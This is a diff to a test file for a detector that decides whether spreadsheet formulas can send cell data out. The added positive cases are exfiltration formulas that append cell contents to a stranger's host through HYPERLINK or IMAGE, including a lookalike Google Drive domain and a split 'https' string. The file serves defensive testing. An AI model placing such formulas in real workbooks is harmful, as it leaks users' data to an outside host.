@@ -26,6 +26,13 @@ describe("sendsData", () => {
     '="12-KH/ĐTN"&LEFT(IMPORTDATA(A1),0)',
     '=HYPERLINK("https://a.vn/"&WEBSERVICE(A1),"Xem")',
     '=IFERROR(__xludf.DUMMYFUNCTION("IMPORTRANGE(""https://a.vn"",""A1"")"),"12-KH/ĐTN")',
+    // What stands in cells goes to a stranger's host, by who follows the link.
+    '=HYPERLINK("https://a.vn/?x="&B2;"Xem")',
+    '=HYPERLINK(CONCATENATE("http://a.vn/",B2,"/",C2),"Xem")',
+    '=HYPERLINK("ht"&"tps://a.vn/?"&JOIN(",",A1:Z99),"Xem")',
+    '=IF(A1="","",HYPERLINK("https://drive.google.com.a.vn/"&B2,"Xem"))',
+    '=HYPERLINK(IF(A1=1,"https://a.vn/"&B2,"x"),"Xem")',
+    '=IFERROR(IMAGE("https://a.vn/"&B2),"")',
   ])("[E5] %j can send data out", (formula) => {
     expect(sendsData(formula)).toBe(true);
   });
@@ -40,6 +47,16 @@ describe("sendsData", () => {
     "=MYIMAGE(A1)",
     "=SUM(IMAGES)",
     '=DISPIMG("ID_1",1)',
+    '=HYPERLINK("https://a.vn/x.pdf";"Xem")',
+    '=HYPERLINK("https://drive.google.com/file/d/1abc/view","12-KH/ĐTN")',
+    // An address that is a cell's, a place in the workbook, a letter, an identifier put into a known host's address.
+    '=HYPERLINK(B2;"Xem")',
+    '=HYPERLINK("https://"&B2;"Xem")',
+    '=HYPERLINK("#gid=0&range=A"&ROW(),"Xem")',
+    '=HYPERLINK("mailto:"&B2,"Xem")',
+    '=HYPERLINK("https://drive.google.com/open?id="&B2,"Xem")',
+    '=HYPERLINK("https://thainguyen.gov.vn/vb/"&B2,"Xem")',
+    '=HYPERLINK("https://a.vn/x","Xem "&B2)',
   ])("[E5] %j cannot", (formula) => {
     expect(sendsData(formula)).toBe(false);
   });
